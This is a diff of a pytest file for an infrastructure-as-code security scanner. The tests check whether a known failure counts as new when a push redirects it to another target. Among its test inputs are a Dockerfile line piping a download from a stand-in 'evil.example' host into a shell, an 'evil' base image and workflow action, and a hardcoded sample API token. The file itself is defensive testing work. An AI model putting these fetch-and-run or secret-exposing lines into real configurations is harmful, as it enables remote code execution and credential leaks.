@@ -2,12 +2,11 @@
 
 from __future__ import annotations
 
-import subprocess
+import json
 from pathlib import Path
 
-import pytest
-
 from cli.pushes import ci, workspace
+from cli.test_ci_base import commit, git, write
 
 RULE = """resource "aws_security_group" "web" {}
 resource "aws_security_group" "db" {}
@@ -115,74 +114,74 @@ STAGE = "FROM python:latest\nUSER app\n"
 FETCH = "FROM a:1\nRUN curl -k https://mirror.example.org/a.tgz -o a.tgz\nUSER app\n"
 
 
-def pushed(folder: Path, file: str, before: str, after: str) -> int:
-    """The exit code of a push that changes a file of a workspace."""
+Case = tuple[str, str, str, str]  # a file, its text in the base, what of it a push replaces, and by what
+
+
+def told_as_new(folder: Path, cases: list[Case]) -> set[Case]:
+    """Return the cases of which a push that has all of them, each in a folder of its own, has a failure as new."""
     shop = workspace(folder / "shop", 'resource "aws_ebs_volume" "v" {\n  encrypted = true\n}\n')
     settings = shop / "preuve.yaml"
     kinds = ("terraform", "cloudformation", "dockerfile", "github_actions")
     scope = ", ".join(f"{{path: {'.' if kind == 'github_actions' else 'infra'}, kind: {kind}}}" for kind in kinds)
     settings.write_text(settings.read_text().replace("{path: infra, kind: terraform}", scope))
-    path = shop / (file if file.startswith(".") else f"infra/{file}")
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text(before)
-    for command in (
-        ["init", "-q", "-b", "main"],
-        ["add", "-A"],
-        ["-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "-m", "base"],
-    ):
-        subprocess.run(["git", "-C", str(shop), *command], check=True)
-    path.write_text(after)
-    return ci(shop, "--base", "main", "--gate", "low").exit_code
+    (shop / ".github" / "workflows").mkdir(parents=True)
+    files = {_place(number, case[0]): case for number, case in enumerate(cases)}
+    assert all(old in text for _, text, old, _ in cases)
+    write(shop, {place: text for place, (_, text, _, _) in files.items()})
+    git(shop, "init", "-q", "-b", "main")
+    commit(shop)
+    write(shop, {place: text.replace(old, new) for place, (_, text, old, new) in files.items()})
+    answer = ci(shop, "--base", "main", "--gate", "low", "--json", str(folder / "push.json"))
+    told = json.loads((folder / "push.json").read_text())["findings"]
+    found = [one for one in told if one["status"] == "FAIL" and one["file"] in files]
+    assert {one["file"] for one in found} == files.keys()
+    new = {files[one["file"]] for one in found if not one["known"]}
+    assert answer.exit_code == (10 if new else 0), answer.output
+    return new
 
 
-@pytest.mark.parametrize(
-    ("file", "text", "old", "new"),
-    [
-        ("r.tf", RULE, "security_group.web.id", "security_group.db.id"),
-        ("t.yaml", TEMPLATE, "sg-1", "sg-2"),
-        ("r.tf", POLICY, "website", "customer-records"),
-        *(("r.tf", ATTACHED % {"kind": kind}, "breakglass", "web") for kind in ("role", "user", "group")),
-        *(("r.tf", TO_ALL % kind, "anne.martin", "eva.petit") for kind in ("users", "roles")),
-        ("r.tf", ADDRESS, "site", "payments"),
-        ("r.tf", ACL, "website", "customer-records"),
-        ("r.tf", METHOD, '"GET"', '"ANY"'),
-        ("r.tf", METHOD, "health", "admin"),
-        ("r.tf", IMAGE, "ami-1", "ami-2"),
-        ("r.tf", ROUTE, "shop", "payments"),
-        ("r.tf", LOGS, '"api", "audit"', '"api"'),
-        ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/login")),
-        ("r.tf", SITE % PLAIN, "/img", "/login"),
-        ("r.tf", SCRIPT, "2024", "2024\\nexport API_TOKEN=Zx9k2Lq8Vn3m1Qp0"),
-        ("r.tf", ENGINE, "5.7", "5.6"),
-        (".github/workflows/a.yml", RIGHTS, "contents: write", "contents: write, packages: write"),
-        (".github/workflows/a.yml", CALLED, "acme", "evil"),
-        ("Dockerfile", STAGE, "python", "evil/python"),
-        ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
-    ],
-)
-def test_a_known_failure_directed_at_something_else_is_new(
-    tmp_path: Path, file: str, text: str, old: str, new: str
-) -> None:
-    assert old in text
-    assert pushed(tmp_path, file, text, text.replace(old, new)) == 10
+def _place(number: int, file: str) -> str:
+    return f".github/workflows/{number}.yml" if file.endswith(".yml") else f"infra/{number}/{file}"
 
 
-@pytest.mark.parametrize(
-    ("file", "text", "old", "new"),
-    [
-        ("r.tf", RULE, "temporary", "of the migration"),
-        ("r.tf", POLICY, ', "s3:ListBucket"', ""),
-        ("r.tf", TO_ALL % "users", ', "paul.durand"', ""),
-        ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/x").replace("allow-all", "https-only")),
-        ("r.tf", SITE % (PLAIN + PLAIN.replace("/img", "/x")), PLAIN, ""),
-        ("r.tf", SCRIPT, "export", "echo ready\\nexport"),
-        ("r.tf", ENGINE, "engine  ", "# the shop's\n  engine  "),
-        (".github/workflows/a.yml", RIGHTS, "run: make", "run: make test"),
-        ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
-    ],
-)
-def test_a_known_failure_stays_known_when_something_else_changes(
-    tmp_path: Path, file: str, text: str, old: str, new: str
-) -> None:
-    assert old in text
-    assert pushed(tmp_path, file, text, text.replace(old, new)) == 0
+DIRECTED: list[Case] = [
+    ("r.tf", RULE, "security_group.web.id", "security_group.db.id"),
+    ("t.yaml", TEMPLATE, "sg-1", "sg-2"),
+    ("r.tf", POLICY, "website", "customer-records"),
+    *(("r.tf", ATTACHED % {"kind": kind}, "breakglass", "web") for kind in ("role", "user", "group")),
+    *(("r.tf", TO_ALL % kind, "anne.martin", "eva.petit") for kind in ("users", "roles")),
+    ("r.tf", ADDRESS, "site", "payments"),
+    ("r.tf", ACL, "website", "customer-records"),
+    ("r.tf", METHOD, '"GET"', '"ANY"'),
+    ("r.tf", METHOD, "health", "admin"),
+    ("r.tf", IMAGE, "ami-1", "ami-2"),
+    ("r.tf", ROUTE, "shop", "payments"),
+    ("r.tf", LOGS, '"api", "audit"', '"api"'),
+    ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/login")),
+    ("r.tf", SITE % PLAIN, "/img", "/login"),
+    ("r.tf", SCRIPT, "2024", "2024\\nexport API_TOKEN=Zx9k2Lq8Vn3m1Qp0"),
+    ("r.tf", ENGINE, "5.7", "5.6"),
+    ("a.yml", RIGHTS, "contents: write", "contents: write, packages: write"),
+    ("a.yml", CALLED, "acme", "evil"),
+    ("Dockerfile", STAGE, "python", "evil/python"),
+    ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
+]
+HARMLESS: list[Case] = [
+    ("r.tf", RULE, "temporary", "of the migration"),
+    ("r.tf", POLICY, ', "s3:ListBucket"', ""),
+    ("r.tf", TO_ALL % "users", ', "paul.durand"', ""),
+    ("r.tf", SITE % PLAIN, PLAIN, PLAIN + PLAIN.replace("/img", "/x").replace("allow-all", "https-only")),
+    ("r.tf", SITE % (PLAIN + PLAIN.replace("/img", "/x")), PLAIN, ""),
+    ("r.tf", SCRIPT, "export", "echo ready\\nexport"),
+    ("r.tf", ENGINE, "engine  ", "# the shop's\n  engine  "),
+    ("a.yml", RIGHTS, "run: make", "run: make test"),
+    ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
+]
+
+
+def test_a_known_failure_directed_at_something_else_is_new(tmp_path: Path) -> None:
+    assert told_as_new(tmp_path, DIRECTED) == set(DIRECTED)
+
+
+def test_a_known_failure_stays_known_when_something_else_changes(tmp_path: Path) -> None:
+    assert told_as_new(tmp_path, HARMLESS) == set()
